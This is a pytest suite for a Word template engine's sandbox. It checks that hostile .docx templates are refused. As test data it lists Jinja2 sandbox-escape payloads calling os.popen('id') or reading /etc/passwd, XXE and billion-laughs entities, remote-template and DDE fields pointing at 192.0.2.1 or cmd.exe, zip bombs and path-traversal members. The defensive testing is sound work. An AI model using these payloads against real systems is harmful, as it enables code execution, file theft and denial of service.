"""A template from a stranger: no command is run, no file is read, the memory is not filled, and it is said why."""

from __future__ import annotations

import io
import pickle
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest
from support.papers import words
from support.papers.words import document, p, r, table

from toolkit.core.cells import Stop
from toolkit.word.templates.template import compile_template

ROOT = Path(__file__).resolve().parents[3]
FIELDS = {
    "x": "文字", "数": 7, "列": [{"名": "甲"}] * 100, "组": {"名": "甲"}, "大列": [{"名": "甲"}] * 2000, "self": "我",
}  # fmt: skip

EXPRESSIONS = [
    # The classics: from any object to all classes, from there to os.
    "{{ ''.__class__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ().__class__.__bases__[0].__subclasses__()[40]('/etc/passwd').read() }}",
    "{{ x.__class__.__base__ }}",
    "{{ x['__class__'] }}",
    '{{ x["__cla" ~ "ss__"] }}',
    "{{ x['_'*2+'class'+'_'*2] }}",
    "{{ x|attr('__class__') }}",
    "{{ x|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ x['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "{{ (x|attr('__class__')).mro() }}",
    "{{ [].append.__self__ }}",
    "{{ 列.append(1) }}",
    "{{ 列.__class__ }}",
    "{{ 组.__init__.__globals__ }}",
    "{{ 组.update({'名': 1}) }}",
    "{{ 组.keys() }}",
    "{{ 组._secret }}",
    # What jinja2 and Flask leave lying about.
    "{{ self.__init__.__globals__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ joiner.__init__.__globals__.os.system('id') }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ lipsum() }}",
    "{{ dict(a=1) }}",
    "{{ url_for.__globals__ }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ config.items() }}",
    "{{ request.application.__globals__ }}",
    "{{ range.__class__ }}",
    "{{ range }}",
    "{{ range(3).__class__ }}",
    "{{ context }}{{ context.eval_ctx.environment }}",
    "{{ environment }}{{ environment.globals }}",
    "{{ resolve('x') }}",
    "{{ undefined(name='x') }}",
    "{{ caller() }}{{ varargs }}{{ kwargs }}",
    "{{ super() }}",
    "{{ __import__('os').system('id') }}",
    "{{ open('/etc/passwd').read() }}",
    "{{ eval('1') }}{{ exec('1') }}",
    "{{ loop }}",
    "{% for a in 列 %}{{ loop }}{% endfor %}",
    "{% for a in 列 %}{{ loop.__class__ }}{% endfor %}",
    "{% for a in 列 %}{{ loop._iterable }}{% endfor %}",
    "{% for a in 列 %}{{ loop['__class__'] }}{% endfor %}",
    "{% for a in 列 %}{{ loop.cycle('a', 'b') }}{% endfor %}",
    "{% for a in 列 %}{{ loop.changed(a) }}{% endfor %}",
    "{% for a in 列 %}{{ loop.previtem }}{% endfor %}",
    "{% for a in 列 recursive %}{{ loop(列) }}{% endfor %}",
    "{% for a, b in 列 %}{{ a }}{% endfor %}",
    "{% for a in ().__class__.__base__.__subclasses__() %}{{ a }}{% endfor %}",
    "{% if ().__class__ %}{% endif %}",
    "{% if x.__len__() %}{% endif %}",
    # Formatting as a way to attributes.
    "{{ '{0.__class__}'.format(x) }}",
    "{{ '{0.__class__}'|format(x) }}",
    "{{ '%s'|format(x) }}",
    "{{ '%1000000000d' % 1 }}",
    "{{ x.format_map({}) }}",
    "{{ x|map(attribute='__class__')|list }}",
    "{{ 列|map('attr', '__class__') }}",
    "{{ 列|groupby('__class__') }}",
    "{{ 列|selectattr('名') }}",
    "{{ 列|sum(attribute='__class__') }}",
    "{{ 列|合计('__class__') }}{{ 列|sum('__doc__') }}",
    "{{ 列|sort(attribute='名') }}",
    "{{ 列|xmlattr }}{{ x|tojson }}{{ x|pprint }}{{ x|urlize }}",
    "{{ x|safe }}",
    "{{ '<w:p/>'|safe }}{{ x|forceescape }}",
    "{{ x|filesizeformat }}{{ x|random }}{{ x|batch(3) }}",
    "{{ x is callable }}{{ x is sameas(1) }}{{ x is divisibleby(0) }}{{ x is filter('x') }}",
    # Statements.
    "{% include '/etc/passwd' %}",
    "{% include x %}",
    "{% import 'os' as os %}",
    "{% from 'os' import system %}",
    "{% extends x %}",
    "{% macro m() %}{{ m() }}{% endmacro %}",
    "{% call x() %}{% endcall %}",
    "{% filter upper %}a{% endfilter %}",
    "{% set a = x %}",
    "{% set a.b = x %}",
    "{% set a %}b{% endset %}",
    "{% with a = 1 %}{% endwith %}",
    "{% block a %}{% endblock %}",
    "{% block a scoped %}{% endblock %}",
    "{% autoescape false %}{{ x }}{% endautoescape %}",
    "{% raw %}{{ x }}{% endraw %}",
    "{% do 列.append(1) %}",
    "{% debug %}",
    "{% print x %}",
    "{% trans %}a{% endtrans %}",
    "{% break %}",
    "{% continue %}",
    "{%p set a = 1 %}",
    # Numbers and texts that grow.
    "{{ 9**9**9 }}",
    "{{ 2**100000 }}",
    "{{ 10**18 }}",
    "{{ 99999999999999999999999999 }}",
    "{{ 1e400 }}",
    "{{ 'a' * 1000000000 }}",
    "{{ x * 数 }}",
    "{{ [1] * 1000000000 }}",
    "{{ (1,) * 1000000000 }}",
    "{{ 列 * 1000 }}",
    "{{ 列 + 列 }}",
    "{{ 999999999999 * 999999999999 }}",
    "{{ x|补零(1000000000) }}",
    "{{ 数|四舍五入(1000000) }}",
    "{{ x|center(1000000000) }}{{ x|indent(1000000000) }}{{ x|wordwrap(1) }}{{ x|replace('a', 'aaaa') }}",
    "{{ 1 / 0 }}{{ 1 % 0 }}{{ 1 // 0 }}",
    # Forms that are no expressions at all.
    "{{ {'a': 1} }}",
    "{{ {'a': 1}.a }}",
    "{{ x if }}",
    "{{ lambda: 1 }}",
    "{{ [a for a in 列] }}",
    "{{ x := 1 }}",
    "{{ *列 }}",
    "{{ x[::2] }}",
    "{{ x[数:] }}",
    "{{ 列[x] }}",
    "{{ 列[-1000000000000000000000] }}",
    "{{" + "(" * 190 + "x" + ")" * 190 + "}}",
    "{{" + "[" * 190 + "x" + "]" * 190 + "}}",
    "{{" + "not " * 95 + "x }}",
    "{{" + "-" * 190 + "数 }}",
    "{{ x" + "|trim" * 70 + " }}",
    "{{ x" + ".a" * 190 + " }}",
    "{{ 1" + "+1" * 190 + " }}",
    "{{ x if x else " * 20 + "x }}",
    "{% if x %}" * 50 + "{% endif %}" * 50,
    "{% for a in 列 %}" * 25 + "{% endfor %}" * 25,
    "{{ ﹍﹍class﹍﹍ }}",
    "{{ x.＿＿class＿＿ }}",
    "{{ ｘ }}",
    "{{ x }}{{ x\ufdd0 }}",
    "\ufdd2 set a = 1 \ufdd3{{ x }}",
    "\ufdd4 x.__class__ \ufdd5{{ x }}",
]  # fmt: skip


def refusal(data, fields=FIELDS):
    """Kinds and texts of the problems; fails when a document comes out."""
    with pytest.raises(Stop) as stop:
        compile_template(data, name="来路不明.docx").render(fields)
    return [(problem.kind, str(problem)) for problem in stop.value.problems]


@pytest.fixture
def nothing_runs(monkeypatch):
    """Whatever would reach the machine is a failure of the test at once."""

    def alarm(*_arguments, **_named):
        raise AssertionError("a template reached the machine")

    for target in (
        "os.system",
        "os.popen",
        "subprocess.Popen.__init__",
        "builtins.eval",
        "os.spawnl",
        "os.fork",
    ):
        monkeypatch.setattr(target, alarm, raising=False)


@pytest.mark.usefixtures("nothing_runs")
def test_no_form_is_executed():
    let_through = []
    for written in EXPRESSIONS:
        try:
            compile_template(document(p(r(written)), "{{ x }}"), name="来路不明.docx").render(FIELDS)
        except Stop as stop:
            texts = [str(problem) for problem in stop.problems]
            if all("来路不明.docx" in t and "Error" not in t and "__globals__'" not in t for t in texts):
                continue
        let_through.append(written)
    assert let_through == []


def test_in_header_footnote_and_table_too():
    attack = "{{ x.__class__ }}"
    note = f'<w:footnote w:id="1"><w:p><w:r><w:t>{attack}</w:t></w:r></w:p></w:footnote>'
    found = refusal(document(table((attack, attack)), "末", header=attack, footer=attack, footnotes=note))
    assert [kind for kind, _ in found] == ["template-forbidden"] * 5
    assert {text.split("!")[0].split()[1] for _, text in found} == {"正文", "页眉", "页脚", "脚注"}


def test_split_over_runs_too():
    cut = p(*[r(letter) for letter in "{{ x.__class__ }}"])
    assert refusal(document(cut))[0][0] == "template-forbidden"


def test_values_are_never_read_as_templates():
    data = compile_template(document("{{ x }}{{ 组.名 }}"), name="甲.docx").render(
        {"x": "{{ ''.__class__ }}", "组": {"名": "{% for a in b %}"}}
    )
    assert words.texts(data) == ["{{ ''.__class__ }}{% for a in b %}"]


def test_keys_that_look_like_methods_are_only_keys():
    data = compile_template(document("{{ 组.items }}{{ 组.pop }}"), name="甲.docx").render(
        {"组": {"items": "项", "pop": "出"}}
    )
    assert words.texts(data) == ["项出"]


def bomb(size):
    """A part of blanks that shrinks a thousandfold."""
    return b'<?xml version="1.0"?><w:hdr xmlns:w="urn:x"><!--' + b" " * size + b"--></w:hdr>"


def lying_zip(data, name):
    """A zip that declares one member smaller than it is."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        info = book.getinfo(name)
        out[info.header_offset + 22 : info.header_offset + 26] = (10).to_bytes(4, "little")
    start = 0
    while (at := data.find(b"PK\1\2", start)) >= 0:
        length = int.from_bytes(data[at + 28 : at + 30], "little")
        if data[at + 46 : at + 46 + length].decode() == name:
            out[at + 24 : at + 28] = (10).to_bytes(4, "little")
        start = at + 4
    return bytes(out)


XXE = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
BODY = f'<w:document xmlns:w="{words.W}"><w:body><w:p><w:r><w:t>{{{{ x }}}}{{0}}</w:t></w:r></w:p></w:body></w:document>'


def relation(kind, target, mode='TargetMode="External"'):
    return f'<Relationship Id="rId_evil" Type="{words.R}/{kind}" Target="{target}" {mode}/>'


def field(code):
    return p(f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>', "{{ x }}")


FILES = {  # made when they are asked for: some are large
    "external entity": lambda: (words.replace(document("x"), "word/document.xml", XXE + BODY.format("&x;")), "xml-doctype"),
    "external entity in UTF-16": lambda: (
        words.replace(
            document("x"), "word/document.xml",
            ('<?xml version="1.0" encoding="UTF-16"?>' + XXE + BODY.format("&x;")).encode("utf-16"),
        ),
        "xml-doctype",
    ),
    "parameter entity": lambda: (
        words.replace(
            document("x"), "word/document.xml",
            '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>' + BODY.format(""),
        ),
        "xml-doctype",
    ),
    "entity in the styles": lambda: (
        words.replace(document("{{ x }}"), "word/styles.xml", XXE + f'<w:styles xmlns:w="{words.W}">&x;</w:styles>'),
        "xml-doctype",
    ),
    "billion laughs": lambda: (words.replace(document("x"), "word/document.xml", LAUGHS + BODY.format("&i;")), "xml-doctype"),
    "billion laughs in the relationships": lambda: (
        words.replace(document("x"), "word/_rels/document.xml.rels", LAUGHS + "<Relationships/>"), "xml-doctype",
    ),
    "zip bomb": lambda: (words.replace(document("{{ x }}"), "word/header9.xml", bomb(200_000_000)), ""),
    "cut off": lambda: (document("{{ x }}")[:-400], "zip"),
    "not XML": lambda: (words.replace(document("x"), "word/document.xml", "{{ x }}"), "template-xml"),
    "unclosed XML": lambda: (words.replace(document("x"), "word/document.xml", BODY.format("")[:-5]), "template-xml"),
    "deep XML": lambda: (
        words.replace(document("x"), "word/document.xml", BODY.format("<w:a>" * 50_000 + "</w:a>" * 50_000)), "xml",
    ),
    "two members of one name": lambda: (
        words.replace(document("{{ x }}"), "word/DOCUMENT.xml", BODY.format("")), "zip-duplicate",
    ),
    "a member that climbs out": lambda: (words.replace(document("{{ x }}"), "../../evil.txt", "x"), "zip-name"),
    "macro inside": lambda: (words.replace(document("{{ x }}"), "word/vbaProject.bin", b"\xd0\xcf"), ""),
    "remote template": lambda: (document("{{ x }}", relations=relation("attachedTemplate", "http://192.0.2.1/a.dotm")), "template-external"),
    "remote template on a share": lambda: (
        document("{{ x }}", relations=relation("attachedTemplate", "file://\\\\192.0.2.1\\a.dotm")), "template-external",
    ),
    "remote picture": lambda: (document("{{ x }}", relations=relation("image", "http://192.0.2.1/a.png")), "template-external"),
    "remote object": lambda: (document("{{ x }}", relations=relation("oleObject", "mhtml:http://192.0.2.1/a!x-usc:b")), "template-external"),
    "remote frame": lambda: (document("{{ x }}", relations=relation("frame", "http://192.0.2.1/")), "template-external"),
    "DDE": lambda: (document(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')), "template-field-code"),
    "DDE in lower case and pieces": lambda: (
        document(p("<w:r><w:instrText> dd</w:instrText></w:r><w:r><w:instrText>e cmd</w:instrText></w:r>", "{{ x }}")),
        "template-field-code",
    ),
    "INCLUDETEXT": lambda: (document(field(' INCLUDETEXT "c:\\\\秘密.docx" ')), "template-field-code"),
    "INCLUDEPICTURE": lambda: (document(field(' INCLUDEPICTURE "http://192.0.2.1/a.png" ')), "template-field-code"),
    "field in an attribute": lambda: (
        document('<w:p><w:fldSimple w:instr=" LINK Excel.Sheet x "><w:r><w:t>{{ x }}</w:t></w:r></w:fldSimple></w:p>'),
        "template-field-code",
    ),
    "altChunk": lambda: (document(f'<w:altChunk r:id="rId_evil" xmlns:r="{words.R}"/>', "{{ x }}"), "template-external"),
    "tag in a field code": lambda: (document(field(" HYPERLINK {{ x }} ")), "template-place"),
    "tag in an attribute": lambda: (document('<w:p><w:hyperlink w:anchor="{{ x }}"><w:r><w:t>甲</w:t></w:r></w:hyperlink></w:p>'), "template-place"),
    "a million braces": lambda: (document(p(r("{" * 1_000_000)), "{{ x }}"), "template-brace"),
    "a million opening tags": lambda: (document(p(r("{{ " * 300_000)), "{{ x }}"), "template-brace"),
    "100,000 tags": lambda: (document(p(r("{{ x }}" * 100_000))), "template-limit"),
    "6,000 paragraphs with tags": lambda: (document(*["{{ x }}"] * 6_000), "template-limit"),
    "a workbook": lambda: (words.archive({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}), ""),
    "text": lambda: (b"{{ x }}", ""),
    "nothing": lambda: (b"", ""),
    "old Word": lambda: (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, ""),
}  # fmt: skip


def test_a_size_that_is_a_lie_is_not_believed():
    data = compile_template(lying_zip(document("甲{{ x }}"), "word/styles.xml"), name="甲.docx").render(
        {"x": "乙"}
    )
    assert words.texts(data) == ["甲乙"]


LOOPS = {
    "loops in loops": "{% for a in 列 %}" * 6 + "{{ x }}" + "{% endfor %}" * 6,
    "empty loops in loops": "{% for a in 大列 %}" * 4 + "{% endfor %}" * 4,
    "loops over range": "{% for a in range(99999) %}" * 3 + "。" + "{% endfor %}" * 3,
    "range too long": "{% for a in range(999999999) %}。{% endfor %}",
    "range with a negative start": "{% for a in range(-999999999, 999999999) %}。{% endfor %}",
    "loop over a loop variable": "{% for a in 层 %}{% for b in a %}{% for c in b %}{% for d in c %}{{ x }}{% endfor %}{% endfor %}{% endfor %}{% endfor %}",
    "long text in a loop": "{% for a in 列 %}{{ 长 }}{% endfor %}",
    "joined text in a loop": "{% for a in 大列 %}{{ 长 ~ x }}{% endfor %}",
    "condition of a loop": "{% for a in 大列 if 大列|个数 > 1 %}{% for b in 大列 %}{% for c in 大列 %}{% endfor %}{% endfor %}{% endfor %}",
}  # fmt: skip


@pytest.mark.damaged_files
@pytest.mark.parametrize("name", FILES)
def test_hostile_files_are_refused_by_name(name):
    data, kind = FILES[name]()
    found = refusal(data)
    assert any(one.startswith(kind) for one, _ in found), found
    assert all("来路不明.docx" in text for _, text in found)


@pytest.mark.parametrize("name", LOOPS)
def test_what_would_fill_the_memory_is_refused(name):
    layer = ["甲"] * 30
    fields = {**FIELDS, "长": "长" * 900_000, "层": [[[layer] * 30] * 30] * 30}
    assert [kind for kind, _ in refusal(document(p(r(LOOPS[name]))), fields)] == ["template-limit"]


@pytest.mark.slow
@pytest.mark.skipif(sys.platform == "win32", reason="limits of memory and processor time are those of Linux")
def test_all_of_them_within_five_seconds_each_and_512_mib(tmp_path):
    """Each in a process of its own that may use 512 MiB of memory and five seconds of processor time; the slowest needs 1.5 to 2 s."""
    runner = tmp_path / "run.py"
    runner.write_text(
        textwrap.dedent(
            """
            import os, pickle, resource, sys, time
            sys.path.insert(0, sys.argv[1])
            from toolkit.core.cells import Stop
            from toolkit.word.templates.template import compile_template
            resource.setrlimit(resource.RLIMIT_AS, (512 * 1024 * 1024, 512 * 1024 * 1024))
            worst = 0
            with open(sys.argv[2], "rb") as file:
                cases = pickle.load(file)
            for name, data, fields in cases:
                child = os.fork()
                if child == 0:
                    start = time.process_time()
                    code = 1
                    try:
                        compile_template(data, name="x.docx").render(fields)
                    except Stop:
                        code = 0 if time.process_time() - start <= 5 else 3
                    except BaseException as error:
                        print(name, type(error).__name__, error, file=sys.stderr)
                        code = 2
                    os._exit(code)
                _, status = os.waitpid(child, 0)
                if status:
                    print(name, status, os.waitstatus_to_exitcode(status))
            """
        ),
        encoding="utf-8",
    )
    layer = ["甲"] * 30
    fields = {**FIELDS, "长": "长" * 900_000, "层": [[[layer] * 30] * 30] * 30}
    cases = [(text[:40], document(p(r(text))), FIELDS) for text in EXPRESSIONS]
    cases += [(name, data, FIELDS) for name, (data, _) in ((name, make()) for name, make in FILES.items())]
    cases += [(name, document(p(r(text))), fields) for name, text in LOOPS.items()]
    (tmp_path / "cases").write_bytes(pickle.dumps(cases))
    done = subprocess.run(
        [sys.executable, str(runner), str(ROOT), str(tmp_path / "cases")],
        capture_output=True,
        text=True,
        encoding="utf-8",
        check=False,
        timeout=600,
    )
    assert (done.stdout, done.stderr, done.returncode) == ("", "", 0)
